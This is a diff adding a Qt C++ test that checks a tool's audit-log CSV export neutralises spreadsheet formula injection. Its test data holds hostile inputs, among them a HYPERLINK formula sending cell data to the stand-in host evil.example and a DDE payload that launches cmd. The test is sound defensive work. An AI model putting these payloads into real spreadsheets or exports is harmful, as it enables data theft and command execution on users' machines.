@@ -8,6 +8,7 @@
 #include <QTemporaryDir>
 #include <QTest>
 
+#include "db/AuditLog.h"
 #include "db/LocalCache.h"
 #include "support/PtyPair.h"
 #include "support/TestCache.h"
@@ -34,6 +35,7 @@ private slots:
     void decodeSurvivesADecoderAbort();
     void listenPrintsSerialScans();
     void auditVerifyNamesTheFirstBadRow();
+    void auditExportKeepsFormulasAsText();
 
 private:
     struct Run
@@ -370,6 +372,46 @@ void TestCommandLine::auditVerifyNamesTheFirstBadRow()
     QCOMPARE(QJsonDocument::fromJson(tampered.out.toUtf8()).object().value(QStringLiteral("first_bad_row")).toInteger(),
              victim);
     QVERIFY(tampered.err.contains(QStringLiteral("row %1").arg(victim)));
+}
+
+void TestCommandLine::auditExportKeepsFormulasAsText()
+{
+    // Reasons are typed (or scanned) by people: whatever they hold must reach a spreadsheet as text.
+    const QString file = m_dir.filePath(QStringLiteral("formula.sqlite"));
+    const QStringList hostile = {QStringLiteral("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"label torn\")"),
+                                 QStringLiteral("+1+cmd|' /C calc'!A0"),
+                                 QStringLiteral("-2+3"),
+                                 QStringLiteral("@SUM(1,1)"),
+                                 QStringLiteral("\t=1"),
+                                 QStringLiteral("\r=1"),
+                                 QStringLiteral("plain, with a comma")};
+    {
+        auto cache = wf::db::LocalCache::open(file, wf::db::LocalCache::Missing::Create);
+        QVERIFY(cache);
+        wf::db::AuditLog audit((*cache)->database());
+        for (const QString& reason : hostile)
+            QVERIFY(audit.append(QStringLiteral("S9001"), QStringLiteral("ST-1"), QStringLiteral("label_reprint"),
+                                 QStringLiteral("SH-1"), reason));
+    }
+    const QString csv = m_dir.filePath(QStringLiteral("formula.csv"));
+    QCOMPARE(run(QStringLiteral(FLOORCTL),
+                 {QStringLiteral("audit"), QStringLiteral("export"), QStringLiteral("--db"), file,
+                  QStringLiteral("--out"), csv})
+                 .exitCode,
+             0);
+    QFile exported(csv);
+    QVERIFY(exported.open(QIODevice::ReadOnly));
+    const QString text = QString::fromUtf8(exported.readAll());
+    QVERIFY(text.contains(QStringLiteral(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"label torn\"\")\",")));
+    QVERIFY(text.contains(QStringLiteral(",\"'+1+cmd|' /C calc'!A0\",")));
+    QVERIFY(text.contains(QStringLiteral(",\"'-2+3\",")));
+    QVERIFY(text.contains(QStringLiteral(",\"'@SUM(1,1)\",")));
+    QVERIFY(text.contains(QStringLiteral(",\"'\t=1\",")));
+    QVERIFY(text.contains(QStringLiteral(",\"'\r=1\",")));
+    QVERIFY(text.contains(QStringLiteral(",\"plain, with a comma\",")));
+    // No cell of a data row begins with a formula character.
+    for (const QString& cell : text.split(QLatin1Char(',')))
+        QVERIFY2(cell.isEmpty() || !QStringLiteral("=+@").contains(cell.front()), qPrintable(cell));
 }
 
 QTEST_GUILESS_MAIN(TestCommandLine)
